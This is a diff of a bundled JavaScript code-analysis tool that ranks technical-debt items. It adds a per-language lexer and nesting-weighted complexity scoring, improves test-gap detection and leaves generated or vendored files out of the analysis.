+    const [name, ext] = dot > 0 ? [base.slice(0, dot), base.slice(dot + 1)] : [base, ''];
+    switch (ext.toLowerCase()) {
+        case 'go':
+            return `${name}_test.go beside it`;
+        case 'py':
+            return `test_${name}.py or ${name}_test.py`;
+        case 'java':
+        case 'kt':
+        case 'scala':
+        case 'groovy':
+            return `${name}Test.${ext} (or …Tests, …Spec, …IT) under src/test/`;
+        case 'rb':
+            return `${name}_spec.rb under spec/ or ${name}_test.rb under test/`;
+        case 'rs':
+            return `#[cfg(test)] in the file, or tests/${name}.rs`;
+        case 'cs':
+            return `${name}Tests.cs`;
+        case 'ts':
+        case 'tsx':
+        case 'js':
+        case 'jsx':
+        case 'mjs':
+        case 'cjs':
+        case 'mts':
+        case 'cts':
+            return `${name}.test.${ext} / ${name}.spec.${ext} or __tests__/${name}.${ext}`;
+        default:
+            return `a test file named after ${name.toLowerCase()}`;
+    }
 }
 
 ;// CONCATENATED MODULE: ./packages/core/src/discover/churn.ts
@@ -17786,6 +23752,14 @@ class ChurnAccumulator {
     commits = 0;
     time = 0;
     current = [];
+    /** Whether a path is a test, by path: a long history names the same files thousands of times. */
+    tests = new Map();
+    isTest = (path) => {
+        let t = this.tests.get(path);
+        if (t === undefined)
+            this.tests.set(path, (t = isTestFile(path)));
+        return t;
+    };
     add(token) {
         if (token.startsWith('\x01')) {
             this.flush();
@@ -17807,7 +23781,7 @@ class ChurnAccumulator {
         if (!this.current.length)
             return;
         // A bulk commit (import, reformat, mass rename) touching tests says nothing about which code they test.
-        const touchesTest = this.current.length <= BULK_COMMIT_FILES && this.current.some(isTestFile);
+        const touchesTest = this.current.length <= BULK_COMMIT_FILES && this.current.some(this.isTest);
         for (const path of this.current) {
             const f = this.files.get(path);
             if (f) {
@@ -17823,28 +23797,404 @@ class ChurnAccumulator {
     }
 }
 
-;// CONCATENATED MODULE: ./packages/core/src/discover/complexity.ts
-const BRANCH = /\b(?:if|elif|elsif|for|foreach|while|until|unless|case|when|catch|except|rescue)\b|&&|\|\||\?\?|\?(?=\s)/g;
-function estimateComplexity(text) {
-    const lines = text.split('\n');
-    const indents = [];
-    let branches = 0;
-    let tabs = false;
-    for (const line of lines) {
-        const trimmed = line.trimStart();
-        if (!trimmed)
+;// CONCATENATED MODULE: ./packages/core/src/discover/lexer.ts
+/**
+ * A small lexer per language family, enough to count decision points the way lizard and escomplex
+ * do: comments and string literals are skipped (a `// if` or `"a || b"` is not a branch), and every
+ * token carries its line and its nesting depth (braces, or indentation for Python and Ruby).
+ */
+const C_BLOCK = [['/*', '*/']];
+const LEXICONS = {
+    'c-like': { line: ['//'], block: C_BLOCK, quotes: '"\'`' },
+    go: { line: ['//'], block: C_BLOCK, quotes: '"\'`' },
+    rust: { line: ['//'], block: C_BLOCK, quotes: '"\'', lifetimes: true, raw: true },
+    jvm: { line: ['//'], block: C_BLOCK, quotes: '"\'', triple: true },
+    python: { line: ['#'], block: [], quotes: '"\'', triple: true, indent: true },
+    ruby: { line: ['#'], block: [['=begin', '=end']], quotes: '"\'`', indent: true, predicate: true },
+    shell: { line: ['#'], block: [], quotes: '"\'`', hashAtWord: true },
+};
+const EXTENSIONS = {};
+const family = (f, exts) => {
+    for (const e of exts.split(' '))
+        EXTENSIONS[e] = f;
+};
+family('c-like', 'js jsx mjs cjs ts tsx mts cts java cs c h cc cpp cxx hpp hh m mm swift dart php vue svelte');
+family('go', 'go');
+family('rust', 'rs');
+family('jvm', 'kt kts scala sc groovy gradle');
+family('python', 'py pyw pyi');
+family('ruby', 'rb rake gemspec');
+family('shell', 'sh bash zsh ksh');
+/** The family whose tokenizer reads a path, or undefined when none fits. */
+function languageFamily(path) {
+    const dot = path.lastIndexOf('.');
+    return dot > path.lastIndexOf('/') ? EXTENSIONS[path.slice(dot + 1).toLowerCase()] : undefined;
+}
+const SHELL_OPEN = new Set(['if', 'for', 'while', 'until', 'select', 'case']);
+const SHELL_CLOSE = new Set(['fi', 'done', 'esac']);
+const OPERATORS = ['&&', '||', '??', '?.', '?:', '=>', '->', '::', ';;&', ';;', ';&', '==', '!=', '<=', '>=', '+=', '-='];
+const isIdentStart = (c) => (c >= 97 && c <= 122) || (c >= 65 && c <= 90) || c === 95 || c === 36 || c > 127;
+const isIdent = (c) => isIdentStart(c) || (c >= 48 && c <= 57);
+/** Tokens of `text` outside comments and strings. */
+function tokenize(text, fam) {
+    const lx = LEXICONS[fam];
+    const tokens = [];
+    const n = text.length;
+    let i = 0;
+    let line = 1;
+    let depth = 0;
+    let lineStart = true;
+    // Indentation families: a stack of indent widths; the level is its height.
+    const indents = [0];
+    let level = 0;
+    let bracketDepth = 0;
+    const atLineStart = () => {
+        let j = i - 1;
+        while (j >= 0 && (text[j] === ' ' || text[j] === '\t'))
+            j--;
+        return j < 0 || text[j] === '\n';
+    };
+    const push = (t) => {
+        if (lineStart && lx.indent && bracketDepth === 0) {
+            // Width of this line's indentation, tabs as 8 (Python's rule).
+            let s = i;
+            while (s > 0 && text[s - 1] !== '\n')
+                s--;
+            let w = 0;
+            for (let k = s; k < n && (text[k] === ' ' || text[k] === '\t'); k++)
+                w = text[k] === '\t' ? (Math.floor(w / 8) + 1) * 8 : w + 1;
+            while (indents.length > 1 && w < indents[indents.length - 1])
+                indents.pop();
+            if (w > indents[indents.length - 1])
+                indents.push(w);
+            level = indents.length - 1;
+        }
+        tokens.push({ text: t, line, depth: lx.indent ? level : depth, lineStart });
+        lineStart = false;
+    };
+    const skipString = (quote, triple, escapes) => {
+        const close = triple ? quote.repeat(3) : quote;
+        i += close.length;
+        while (i < n) {
+            const c = text[i];
+            if (c === '\n')
+                line++;
+            if (escapes && c === '\\') {
+                if (text[i + 1] === '\n')
+                    line++;
+                i += 2;
+                continue;
+            }
+            if (text.startsWith(close, i)) {
+                i += close.length;
+                return;
+            }
+            // An unterminated one-line string ends at the line end (keeps one bad quote from eating the file).
+            if (c === '\n' && !triple && quote !== '`' && fam !== 'shell' && fam !== 'ruby') {
+                i++;
+                return;
+            }
+            i++;
+        }
+    };
+    while (i < n) {
+        const c = text.charCodeAt(i);
+        const ch = text[i];
+        if (ch === '\n') {
+            line++;
+            lineStart = true;
+            i++;
             continue;
-        const lead = line.slice(0, line.length - trimmed.length);
-        if (lead.includes('\t'))
-            tabs = true;
-        indents.push(lead.replace(/\t/g, '    ').length);
-        branches += trimmed.match(BRANCH)?.length ?? 0;
+        }
+        if (c === 32 || c === 9 || c === 13) {
+            i++;
+            continue;
+        }
+        // Comments.
+        const lineComment = lx.line.find((m) => text.startsWith(m, i));
+        if (lineComment && (!lx.hashAtWord || i === 0 || /\s|;/.test(text[i - 1]))) {
+            while (i < n && text[i] !== '\n')
+                i++;
+            continue;
+        }
+        const block = lx.block.find(([open]) => text.startsWith(open, i) && (open !== '=begin' || atLineStart()));
+        if (block) {
+            const end = text.indexOf(block[1], i + block[0].length);
+            const stop = end < 0 ? n : end + block[1].length;
+            for (let k = i; k < stop; k++)
+                if (text[k] === '\n')
+                    line++;
+            i = stop;
+            continue;
+        }
+        // Strings.
+        if (lx.raw && ch === 'r' && /^r#*"/.test(text.slice(i, i + 8))) {
+            const hashes = /^r(#*)"/.exec(text.slice(i, i + 8))?.[1] ?? '';
+            const close = `"${hashes}`;
+            const end = text.indexOf(close, i + 2 + hashes.length);
+            const stop = end < 0 ? n : end + close.length;
+            for (let k = i; k < stop; k++)
+                if (text[k] === '\n')
+                    line++;
+            i = stop;
+            push('"');
+            continue;
+        }
+        if (lx.quotes.includes(ch)) {
+            if (lx.lifetimes && ch === "'" && !/^'(?:\\.[^']*|[^'\\])'/.test(text.slice(i, i + 12))) {
+                i++; // a lifetime such as 'a: not a string
+                continue;
+            }
+            const triple = !!lx.triple && text.startsWith(ch.repeat(3), i);
+            const escapes = !(fam === 'shell' && ch === "'") && !(fam === 'go' && ch === '`');
+            skipString(ch, triple, escapes);
+            push('"');
+            continue;
+        }
+        if (isIdentStart(c)) {
+            let j = i + 1;
+            while (j < n && isIdent(text.charCodeAt(j)))
+                j++;
+            if (lx.predicate && (text[j] === '?' || text[j] === '!') && text[j + 1] !== '=')
+                j++;
+            const word = text.slice(i, j);
+            // Shell blocks are keywords, not braces: `if … fi`, `for … done`, `case … esac`.
+            if (fam === 'shell' && SHELL_CLOSE.has(word) && depth > 0)
+                depth--;
+            push(word);
+            if (fam === 'shell' && SHELL_OPEN.has(word))
+                depth++;
+            i = j;
+            continue;
+        }
+        if (c >= 48 && c <= 57) {
+            let j = i + 1;
+            while (j < n && /[\w.]/.test(text[j]))
+                j++;
+            push('0');
+            i = j;
+            continue;
+        }
+        const op = OPERATORS.find((o) => text.startsWith(o, i));
+        const t = op ?? ch;
+        if (t === '}' && depth > 0)
+            depth--;
+        if (t === '(' || t === '[')
+            bracketDepth++;
+        if ((t === ')' || t === ']') && bracketDepth > 0)
+            bracketDepth--;
+        push(t);
+        if (t === '{')
+            depth++;
+        i += t.length;
     }
-    // The indentation unit is the smallest non-zero indent (2 or 4 spaces, or a tab), at least 2.
-    const unit = tabs ? 4 : Math.max(2, Math.min(8, ...indents.filter((n) => n > 0)));
-    const indentation = indents.reduce((sum, n) => sum + Math.floor(n / unit), 0);
-    const lineCount = text.endsWith('\n') ? lines.length - 1 : lines.length;
-    return { lines: lineCount, code: indents.length, branches, indentation, score: branches + Math.round(indentation / 4) };
+    return tokens;
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/discover/complexity.ts
+/**
+ * Complexity from decision points, counted on tokens (comments and strings skipped) per language
+ * family, per function where functions can be found — the approach of lizard (cyclomatic number per
+ * function) and escomplex. Each decision point also weighs its nesting, as cognitive complexity does,
+ * so a function of nested branches outranks a flat list of the same length; a list of entries with no
+ * decisions at all scores 0 however long it is.
+ */
+
+/** Keywords and operators that are a decision point, per family (from lizard's readers and escomplex). */
+const DECISIONS = {
+    'c-like': new Set(['if', 'for', 'foreach', 'while', 'case', 'catch', '&&', '||', '??', '?']),
+    go: new Set(['if', 'for', 'case', '&&', '||']),
+    // A match arm (`=>`) is a branch; `?` (early return of an error) is not counted.
+    rust: new Set(['if', 'for', 'while', '=>', '&&', '||']),
+    jvm: new Set(['if', 'for', 'while', 'case', 'catch', 'when', '&&', '||', '?:', '?']),
+    python: new Set(['if', 'elif', 'for', 'while', 'except', 'case', 'and', 'or']),
+    ruby: new Set(['if', 'elsif', 'unless', 'while', 'until', 'for', 'when', 'rescue', 'and', 'or', '&&', '||', '?']),
+    shell: new Set(['if', 'elif', 'while', 'until', 'for', ';;', ';&', ';;&', '&&', '||']),
+};
+const BOOLEAN = new Set(['&&', '||', '??', 'and', 'or', '?:']);
+/** Keywords before `(` that open a control block, not a function. */
+const CONTROL = new Set([
+    'if',
+    'for',
+    'foreach',
+    'while',
+    'switch',
+    'catch',
+    'using',
+    'lock',
+    'synchronized',
+    'with',
+    'return',
+    'elif',
+    'until',
+    'when',
+    'match',
+]);
+const FUNCTION_KEYWORD = {
+    go: new Set(['func']),
+    rust: new Set(['fn']),
+    jvm: new Set(['fun', 'def']),
+    python: new Set(['def']),
+    ruby: new Set(['def']),
+    shell: new Set(['function']),
+    'c-like': new Set(['function']),
+};
+/** Tokens a return type or signature tail may hold between `)` and `{` (`): Promise<T> {`, `) const throws X {`). */
+const SIGNATURE_TAIL = /^(?:[A-Za-z_$][\w$]*|[:<>,.?*&|[\]]|->|::)$/;
+function isDecision(fam, tokens, k) {
+    const t = tokens[k];
+    if (!DECISIONS[fam].has(t.text))
+        return false;
+    const next = tokens[k + 1]?.text ?? '';
+    const prev = tokens[k - 1]?.text ?? '';
+    if (t.text === '?') {
+        // Ternary only: not `x?: T`, `List<?>`, `f(a?)`, `T?`, `x?.y` (lexed apart already).
+        return !/^[:)>,=\]]$/.test(next) && !/^[(<,]$/.test(prev);
+    }
+    // A member or key named like a keyword (`obj.if`, `{ case: 1 }`) is not one.
+    if (prev === '.' || next === '=' || (next === ':' && fam === 'c-like'))
+        return false;
+    if (fam === 'python' && t.text === 'case')
+        return t.lineStart;
+    return true;
+}
+/** The function a `{` at index k opens, if any: its name, from the tokens before it. */
+function functionAt(tokens, k) {
+    let j = k - 1;
+    const prev = tokens[j]?.text;
+    if (prev === '=>')
+        return nameBefore(tokens, j) ?? '(arrow function)';
+    // Skip a return type or `const`/`throws` tail back to the `)` of the parameter list.
+    for (let steps = 0; j >= 0 && tokens[j]?.text !== ')' && steps < 12; steps++, j--)
+        if (!SIGNATURE_TAIL.test(tokens[j]?.text ?? ''))
+            return undefined;
+    if (tokens[j]?.text !== ')')
+        return undefined;
+    let open = 0;
+    for (; j >= 0; j--) {
+        const t = tokens[j]?.text;
+        if (t === ')')
+            open++;
+        else if (t === '(' && --open === 0)
+            break;
+    }
+    const before = tokens[j - 1]?.text ?? '';
+    if (before === 'function')
+        return '(anonymous)';
+    if (!/^[A-Za-z_$][\w$]*$/.test(before) || CONTROL.has(before))
+        return undefined;
+    return before;
+}
+function nameBefore(tokens, arrow) {
+    // `name = (a) =>` or `name: (a) =>`: walk back over the parameters to the `=`.
+    let j = arrow - 1;
+    if (tokens[j]?.text === ')') {
+        let open = 0;
+        for (; j >= 0; j--) {
+            const t = tokens[j]?.text;
+            if (t === ')')
+                open++;
+            else if (t === '(' && --open === 0)
+                break;
+        }
+    }
+    j--;
+    if (tokens[j]?.text === 'async')
+        j--;
+    return tokens[j]?.text === '=' || tokens[j]?.text === ':' ? tokens[j - 1]?.text : undefined;
+}
+/** Complexity of a file's text; `path` picks the tokenizer. Files of no known family count no decisions. */
+function estimateComplexity(text, path) {
+    const lines = text.length === 0 ? 0 : text.split('\n').length - (text.endsWith('\n') ? 1 : 0);
+    const fam = languageFamily(path);
+    if (!fam)
+        return { lines, code: 0, decisions: 0, functions: 0, score: 0 };
+    const tokens = tokenize(text, fam);
+    const indentFamily = fam === 'python' || fam === 'ruby';
+    const done = [];
+    const stack = [];
+    const codeLines = new Set();
+    let decisions = 0;
+    let score = 0;
+    let pendingName;
+    let pendingLine = 0;
+    const close = (o) => {
+        done.push({ name: o.name, line: o.line, cyclomatic: 1 + o.decisions, weighted: o.weighted, nesting: o.nesting });
+    };
+    for (let k = 0; k < tokens.length; k++) {
+        const t = tokens[k];
+        codeLines.add(t.line);
+        if (indentFamily) {
+            // A line at or left of a def's level ends it (Ruby's `end` sits at that level too).
+            if (t.lineStart)
+                while (stack.length && t.depth <= stack[stack.length - 1].depth)
+                    close(stack.pop());
+            if (t.text === 'def' && t.lineStart) {
+                const name = tokens[k + 1]?.text === 'self' ? tokens[k + 3]?.text : tokens[k + 1]?.text;
+                stack.push({ name: name ?? '(def)', line: t.line, depth: t.depth, decisions: 0, weighted: 0, nesting: 0 });
+                continue;
+            }
+        }
+        else {
+            if (FUNCTION_KEYWORD[fam]?.has(t.text) && tokens[k - 1]?.text !== '.') {
+                // `func (r *T) Name(`: skip a receiver; a name is an identifier right before its parameters.
+                let j = k + 1;
+                if (fam === 'go' && tokens[j]?.text === '(') {
+                    let open = 0;
+                    for (; j < tokens.length; j++) {
+                        if (tokens[j]?.text === '(')
+                            open++;
+                        else if (tokens[j]?.text === ')' && --open === 0)
+                            break;
+                    }
+                    j++;
+                }
+                const name = tokens[j]?.text ?? '';
+                pendingName = /^[A-Za-z_$][\w$]*$/.test(name) && /^[(<[{]$/.test(tokens[j + 1]?.text ?? '') ? name : '(anonymous)';
+                pendingLine = t.line;
+            }
+            if (t.text === ';' && pendingName && fam === 'rust')
+                pendingName = undefined; // a trait method without a body
+            if (t.text === '{') {
+                const name = pendingName ?? functionAt(tokens, k);
+                if (name)
+                    stack.push({ name, line: pendingName ? pendingLine : t.line, depth: t.depth + 1, decisions: 0, weighted: 0, nesting: 0 });
+                pendingName = undefined;
+                continue;
+            }
+            if (t.text === '}') {
+                while (stack.length && t.depth < stack[stack.length - 1].depth)
+                    close(stack.pop());
+                continue;
+            }
+        }
+        if (!isDecision(fam, tokens, k))
+            continue;
+        const top = stack[stack.length - 1];
+        const base = top ? top.depth + (indentFamily ? 1 : 0) : 0;
+        const nesting = Math.max(0, t.depth - base);
+        const weight = BOOLEAN.has(t.text) ? 1 : 1 + nesting;
+        decisions++;
+        score += weight;
+        if (top) {
+            top.decisions++;
+            top.weighted += weight;
+            top.nesting = Math.max(top.nesting, nesting);
+        }
+    }
+    while (stack.length)
+        close(stack.pop());
+    const worst = done.reduce((w, f) => (!w || f.weighted > w.weighted ? f : w), undefined);
+    return { family: fam, lines, code: codeLines.size, decisions, functions: done.length, ...(worst && worst.weighted > 0 ? { worst } : {}), score };
+}
+/** The figure explained in words, for an item's rationale. */
+function describeComplexity(c) {
+    if (!c.family)
+        return `no tokenizer for this language: ${c.lines} lines, no decision points counted`;
+    const worst = c.worst
+        ? `; most complex function ${c.worst.name} (line ${c.worst.line}): cyclomatic ${c.worst.cyclomatic}, nested ${c.worst.nesting} deep`
+        : '';
+    return `complexity ${c.score} = ${c.decisions} decision points (branches, loops, boolean operators, catches) weighted by nesting, ${c.family} tokenizer, ${c.functions} function${c.functions === 1 ? '' : 's'}${worst}`;
 }
 
 ;// CONCATENATED MODULE: ./packages/core/src/discover/markers.ts
@@ -17946,6 +24296,7 @@ function markerCandidates(hits, authorTimes, now) {
 
 
 
+
 /** Debt markers in tracked files of the working tree (whole words, case-sensitive, text files only). */
 async function grepMarkers(git, markers, keep) {
     if (!markers.length)
@@ -18019,32 +24370,63 @@ async function trackedFiles(git, head) {
 /** Files larger than this are not read for complexity (generated or data files, not code). */
 const MAX_READ_BYTES = 1024 * 1024;
 /**
- * Complexity of the working-tree files a harvester can use (`wanted`), joined with their churn.
- * Reading is the slow part on big trees, so files no harvester could report are not read.
+ * gitattributes of `paths` as git resolves them (`git check-attr --stdin -z`: every .gitattributes
+ * level, macros and `-attr` included), for the attributes asked.
  */
-async function fileFacts(root, files, churn, wanted = () => true) {
+async function checkAttributes(git, paths, attributes) {
+    if (!paths.length || !attributes.length)
+        return new Map();
+    const result = await git.run(['check-attr', '--stdin', '-z', ...attributes], { input: `${paths.join('\0')}\0` });
+    return parseCheckAttr(result.stdout.toString('utf8'));
+}
+/** Files whose first lines carry a generated-code header, found by one `git grep` over the tree. */
+async function grepGeneratedHeaders(git) {
+    const args = ['grep', '--no-color', '-n', '-z', '-I', '-E', '--full-name', ...GENERATED_HEADER_GREP.flatMap((p) => ['-e', p]), '--'];
+    const result = await git.run(args, { okExitCodes: [1] });
+    return parseHeaderGrep(result.stdout.toString('utf8'));
+}
+/**
+ * Complexity of the working-tree files, joined with their churn. Only the `wanted` ones are read;
+ * one whose contents say a tool wrote it (a header git grep missed, minified lines) is left out.
+ */
+function fileFacts(root, files, churn, options = {}) {
+    const { wanted = () => true, ledger, leaveOut } = options;
     const facts = files.map((f) => {
         const c = churn.get(f.path);
         return { ...f, ...(c ? { churn: c } : {}) };
     });
-    await mapLimit(facts, 16, async (f) => {
+    // Synchronous reads: the history walk is over by now, and thousands of small reads cost far less
+    // without a promise and a file handle each.
+    for (const f of facts) {
         if (f.bytes > MAX_READ_BYTES || !wanted(f))
-            return;
-        const buf = await (0,promises_namespaceObject.readFile)((0,external_node_path_namespaceObject.join)(root, f.path)).catch(() => undefined);
-        const text = buf && decodeText(buf);
-        if (text !== undefined)
-            f.complexity = estimateComplexity(text);
-    });
-    return facts;
+            continue;
+        let buf;
+        try {
+            buf = (0,external_node_fs_.readFileSync)((0,external_node_path_namespaceObject.join)(root, f.path));
+        }
+        catch {
+            continue;
+        }
+        const text = decodeText(buf);
+        if (text === undefined)
+            continue;
+        if (ledger && leaveOut && leaveOutByContent(ledger, f.path, text, leaveOut))
+            continue;
+        f.complexity = estimateComplexity(text, f.path);
+        if (/\.rs$/.test(f.path) && INLINE_RUST_TESTS.test(text))
+            f.inlineTests = true;
+    }
+    return ledger ? facts.filter((f) => !ledger.has(f.path)) : facts;
 }
+/** Rust unit tests live beside the code (`#[cfg(test)] mod tests`), so such a file has tests. */
+const INLINE_RUST_TESTS = /#\[cfg\(test\)\]/;
 /** The signals a clone alone can give: markers, history churn, file facts. No network. */
 async function harvestLocal(git, settings, options) {
-    const keep = pathFilter(settings.exclude);
     // Resolved once, so the log and the file list describe the commit the harvest reports.
     const head = await git.tryResolve('HEAD');
     const sha = head ?? '0'.repeat(40);
-    const [hits, history, tracked] = await Promise.all([
-        grepMarkers(git, settings.markers, keep),
+    const [hits, history, tracked, headers] = await Promise.all([
+        grepMarkers(git, settings.markers, () => true),
         walkHistory(git, {
             sinceDays: settings.history_days,
             maxCommits: settings.max_commits,
@@ -18053,21 +24435,28 @@ async function harvestLocal(git, settings, options) {
             ...(head ? { head } : {}),
         }),
         trackedFiles(git, head),
+        settings.leave_out.generated_headers ? grepGeneratedHeaders(git) : new Map(),
     ]);
-    const [blame, files] = await Promise.all([
-        blameTimes(git, hits, settings.blame_max_files),
-        fileFacts(git.cwd, tracked.filter((f) => keep(f.path)), history.churn, 
+    // What nobody edits: by attributes and paths first, then (while reading) by headers.
+    const paths = tracked.map((f) => f.path);
+    const attributes = await checkAttributes(git, paths, settings.leave_out.attributes);
+    const ledger = leaveOutByPath(paths, attributes, settings.leave_out, settings.exclude, headers);
+    const minCommits = Math.min(settings.hotspot_min_commits, settings.test_gap_min_commits);
+    const files = fileFacts(git.cwd, tracked.filter((f) => !ledger.has(f.path)), history.churn, {
         // Hotspots and test gaps need churn; a large file has at least one byte per line.
-        (f) => isCodeFile(f.path) &&
-            ((f.churn?.commits ?? 0) >= Math.min(settings.hotspot_min_commits, settings.test_gap_min_commits) || f.bytes > settings.large_file_lines)),
-    ]);
+        wanted: (f) => isCodeFile(f.path) && ((f.churn?.commits ?? 0) >= minCommits || f.bytes > settings.large_file_lines),
+        ledger,
+        leaveOut: settings.leave_out,
+    });
+    const kept = hits.filter((h) => !ledger.has(h.path));
+    const blame = await blameTimes(git, kept, settings.blame_max_files);
     const notes = {};
     if (blame.skipped)
         notes['debt-markers'] = blame.skipped;
     // A depth-1 checkout has one commit of history: churn-based signals would be silently empty.
     if (history.commits > 0 && (await git.isShallow()))
         notes.hotspots = notes['test-gaps'] = 'shallow clone: churn covers only the fetched commits (check out with fetch-depth: 0)';
-    return { sha, markers: { hits, authorTimes: blame.times }, files, commits: history.commits, notes };
+    return { sha, markers: { hits: kept, authorTimes: blame.times }, files, commits: history.commits, notes, leftOut: ledger.summary() };
 }
 async function mapLimit(items, limit, fn) {
     let next = 0;
@@ -18196,6 +24585,7 @@ function ciHealthCandidates(runs, issues, threshold, overrideLabels, now) {
 ;// CONCATENATED MODULE: ./packages/core/src/discover/files.ts
 
 
+
 const files_DAY = 86_400;
 function recency(lastTime, now) {
     if (lastTime === undefined)
@@ -18234,7 +24624,15 @@ function hotspotCandidates(files, settings, now) {
             path: f.path,
             text: f.path,
             title: `Hotspot: ${f.path} (${churn.commits} commits × complexity ${c.score})`,
-            evidence: { commits: churn.commits, complexity: c.score, branches: c.branches, indentation: c.indentation, lines: c.code, hotspot },
+            evidence: {
+                commits: churn.commits,
+                complexity: c.score,
+                decisions: c.decisions,
+                functions: c.functions,
+                ...(c.worst ? { worstFunction: c.worst.name, worstCyclomatic: c.worst.cyclomatic, worstNesting: c.worst.nesting } : {}),
+                lines: c.code,
+                hotspot,
+            },
             inputs: {
                 businessValue: 5,
                 timeCriticality: recency(churn.lastTime, now),
@@ -18246,7 +24644,7 @@ function hotspotCandidates(files, settings, now) {
                 debtMinutes,
                 security: 'none',
             },
-            rationale: `${churn.commits} commits × complexity ${c.score} = ${hotspot} (${Math.round((100 * hotspot) / worst)}% of the worst hotspot), ${c.code} lines of code`,
+            rationale: `${churn.commits} commits × complexity ${c.score} = ${hotspot} (${Math.round((100 * hotspot) / worst)}% of the worst hotspot), ${c.code} lines of code; ${describeComplexity(c)}`,
         };
     });
 }
@@ -18260,6 +24658,7 @@ function testGapCandidates(files, settings, now) {
         f.churn.commits >= settings.test_gap_min_commits &&
         f.churn.withTests <= f.churn.commits * TEST_GAP_MAX_SHARE &&
         isSourceFile(f.path) &&
+        !f.inlineTests &&
         !tested.has(stem(f.path)))
         .map((f) => {
         const churn = f.churn;
@@ -18283,9 +24682,30 @@ function testGapCandidates(files, settings, now) {
                 debtMinutes: 30 + Math.round(lines / 10),
                 security: 'none',
             },
-            rationale: `${churn.commits} commits in the window, ${churn.withTests} with a test file (at most ${TEST_GAP_MAX_SHARE * 100}% allowed), and no test named after ${stem(f.path)}`,
+            rationale: `${churn.commits} commits in the window, ${churn.withTests} with a test file (at most ${TEST_GAP_MAX_SHARE * 100}% allowed), and no test found where its language puts one (${expectedTest(f.path)})`,
         };
     });
+}
+/**
+ * How the repository's tests were recognised, so a test-gap count (even 0) can be checked: test files
+ * by rule, sources matched to a test by name, files holding their own tests.
+ */
+function testGapNote(files, settings) {
+    const rules = new Map();
+    for (const f of files) {
+        const rule = testRule(f.path);
+        if (rule)
+            rules.set(rule, (rules.get(rule) ?? 0) + 1);
+    }
+    const tests = [...rules.values()].reduce((a, b) => a + b, 0);
+    const tested = new Set(files.filter((f) => isTestFile(f.path)).map((f) => stem(f.path)));
+    const busy = files.filter((f) => isSourceFile(f.path) && (f.churn?.commits ?? 0) >= settings.test_gap_min_commits);
+    const named = busy.filter((f) => tested.has(stem(f.path))).length;
+    const inline = busy.filter((f) => f.inlineTests).length;
+    const withTests = busy.filter((f) => f.churn && f.churn.withTests > f.churn.commits * TEST_GAP_MAX_SHARE).length;
+    const byRule = [...rules].sort((a, b) => b[1] - a[1] || (a[0] < b[0] ? -1 : 1)).map(([r, n]) => `${r} ${n}`);
+    return (`${tests} test file${tests === 1 ? '' : 's'} recognised${byRule.length ? ` (${byRule.join(', ')})` : ''}; of ${busy.length} source files changed in at least ${settings.test_gap_min_commits} commits, ` +
+        `${named} have a test named after them, ${inline} hold their own tests (#[cfg(test)]), ${withTests} change together with tests in over ${TEST_GAP_MAX_SHARE * 100}% of their commits`);
 }
 /** Code files (tests included) over the line limit; data and docs are long for good reasons. */
 function largeFileCandidates(files, settings) {
@@ -18377,6 +24797,7 @@ function buildMetrics(input) {
         items: scoreCandidates(input.candidates, input.weights),
         resolved: input.resolved ?? [],
         loopHealth: input.loopHealth ?? null,
+        ...(input.leftOut ? { leftOut: input.leftOut } : {}),
     };
 }
 const model_num = { type: 'number' };
@@ -18448,6 +24869,7 @@ const VALUE_METRICS_SCHEMA = {
                         properties: { wsjf: model_num, ice: model_num, technicalDebtMinutes: model_num, security: model_num, composite: { type: 'number', minimum: 0, maximum: 100 } },
                     },
                     explanation: { type: 'string' },
+                    why: { type: 'string', description: 'Why this rank: position, evidence, the model carrying most of the score, and the gap to the next item.' },
                 },
             },
         },
@@ -18457,6 +24879,23 @@ const VALUE_METRICS_SCHEMA = {
                 type: 'object',
                 required: ['id', 'title', 'resolvedOn'],
                 properties: { id: { type: 'string' }, title: { type: 'string' }, resolvedOn: { type: 'string', pattern: '^\\d{4}-\\d{2}-\\d{2}$' } },
+            },
+        },
+        leftOut: {
+            type: 'array',
+            description: 'Files no signal looked at, by reason (generated, vendored, documentation, lockfile, minified, excluded), with the rules that decided.',
+            items: {
+                type: 'object',
+                required: ['reason', 'files', 'rules', 'examples'],
+                properties: {
+                    reason: { enum: ['generated', 'vendored', 'documentation', 'lockfile', 'minified', 'excluded'] },
+                    files: { type: 'integer', minimum: 1 },
+                    rules: {
+                        type: 'array',
+                        items: { type: 'object', required: ['rule', 'files'], properties: { rule: { type: 'string' }, files: { type: 'integer' } } },
+                    },
+                    examples: { type: 'array', items: { type: 'string' } },
+                },
             },
         },
         loopHealth: {
@@ -18483,10 +24922,10 @@ const VALUE_METRICS_SCHEMA = {
 function discover(harvest, settings, now) {
     const candidates = [];
     const signals = [];
-    const add = (signal, available, make) => {
+    const add = (signal, available, make, explain) => {
         if (available) {
             candidates.push(...make());
-            const note = harvest.notes?.[signal];
+            const note = [harvest.notes?.[signal], explain?.()].filter(Boolean).join('; ');
             signals.push({ signal, status: 'ok', ...(note ? { note } : {}) });
         }
         else
@@ -18495,7 +24934,7 @@ function discover(harvest, settings, now) {
     const { markers, files, dependencies, ci } = harvest;
     add('debt-markers', !!markers, () => markerCandidates(markers?.hits ?? [], markers?.authorTimes ?? new Map(), now));
     add('hotspots', !!files, () => hotspotCandidates(files ?? [], settings, now));
-    add('test-gaps', !!files, () => testGapCandidates(files ?? [], settings, now));
+    add('test-gaps', !!files, () => testGapCandidates(files ?? [], settings, now), () => testGapNote(files ?? [], settings));
     add('large-files', !!files, () => largeFileCandidates(files ?? [], settings));
     add('dependencies', !!dependencies, () => dependencyCandidates(dependencies?.vulnerabilities ?? [], dependencies?.outdated ?? [], dependencies?.manifest));
     add('ci-health', !!ci, () => ciHealthCandidates(ci?.runs ?? [], ci?.issues ?? [], settings.failure_rate_threshold, settings.override_labels, now));
@@ -18510,6 +24949,7 @@ function discover(harvest, settings, now) {
         now,
         signals,
         loopHealth: ci ? loopHealth(ci.runs, ci.issues, settings.override_labels) : null,
+        ...(harvest.leftOut ? { leftOut: harvest.leftOut } : {}),
     });
 }
 
@@ -18526,23 +24966,35 @@ function readJson(io, flag, path) {
 function render(metrics, top, seconds, commits, files) {
     const shown = metrics.items.slice(0, top);
     const width = Math.max(4, ...shown.map((i) => i.kind.length));
+    const indent = ' '.repeat(8 + width + 2);
     const lines = [
         `${metrics.items.length} work item${metrics.items.length === 1 ? '' : 's'} from ${commits} commits and ${files} files in ${seconds.toFixed(1)} s${shown.length < metrics.items.length ? ` (top ${shown.length} shown)` : ''}.`,
         ...metrics.signals.filter((s) => s.note).map((s) => `note: ${s.signal}${s.status === 'skipped' ? ' skipped' : ''}: ${s.note}`),
         '',
         ` score  ${'kind'.padEnd(width)}  item`,
